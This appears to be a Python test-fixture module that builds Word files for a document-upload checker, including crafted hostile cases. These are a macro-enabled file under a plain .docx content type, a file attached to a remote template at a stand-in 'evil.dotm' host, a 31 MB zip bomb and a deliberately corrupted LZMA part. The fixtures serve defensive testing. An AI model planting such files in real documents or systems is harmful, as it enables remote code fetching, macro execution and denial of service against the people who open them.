"""Word files as an authority might bring them, and files that only claim to be one."""

import io
import zipfile

from docx import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn


def word_file(*paragraphs: str, header: str = "", split: bool = False) -> bytes:
    """A Word file of these paragraphs; `split`: each letter a piece of its own, as Word leaves what was typed slowly."""
    document = Document()
    for words in paragraphs:
        paragraph = document.add_paragraph()
        for piece in words if split else [words]:
            paragraph.add_run(piece)
    if header:
        document.sections[0].header.paragraphs[0].text = header
    return saved(document)


def with_field(instruction: str) -> bytes:
    """A Word file with one field."""
    document = Document()
    field = OxmlElement("w:fldSimple")
    field.set(qn("w:instr"), instruction)
    document.add_paragraph("Dear {{ to whom }}")._p.append(field)
    return saved(document)


def repacked(body: bytes, change=None, more: dict[str, bytes] | None = None) -> bytes:
    """The same file with parts changed, `change(name, part)`, and more parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body)) as packed, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as again:
        for name in packed.namelist():
            part = packed.read(name)
            again.writestr(name, change(name, part) if change else part)
        for name, part in (more or {}).items():
            again.writestr(name, part)
    return out.getvalue()


def damaged_in_lzma() -> bytes:
    """A part packed in the way that Word does not use, and damaged there."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("word/document.xml", "<x>" + "word " * 500 + "</x>", zipfile.ZIP_LZMA)
        start = packed.infolist()[0].header_offset + 30 + len("word/document.xml")
    body = bytearray(out.getvalue())
    # Behind the nine bytes that say how it was packed.
    body[start + 9 : start + 29] = bytes(each ^ 0xFF for each in body[start + 9 : start + 29])
    return bytes(body)


def with_macros() -> bytes:
    """What Word calls .docm, under another name."""
    plain, macro = b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml"
    return repacked(
        word_file("Dear {{ to whom }}"),
        lambda name, part: part.replace(b"openxmlformats-officedocument." + plain, macro),
    )


def fetching() -> bytes:
    """A file attached to a template on another machine."""
    end = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://example.invalid/evil.dotm" TargetMode="External"/></Relationships>'
    )
    return repacked(
        word_file("Dear {{ to whom }}"),
        lambda name, part: part.replace(b"</Relationships>", end) if name == "word/_rels/document.xml.rels" else part,
    )


def bomb() -> bytes:
    """A file that unpacks to more than anybody would write."""
    return repacked(word_file("x"), more={"word/media/big.xml": b" " * (31 * 1024 * 1024)})


def saved(document) -> bytes:
    file = io.BytesIO()
    document.save(file)
    return file.getvalue()
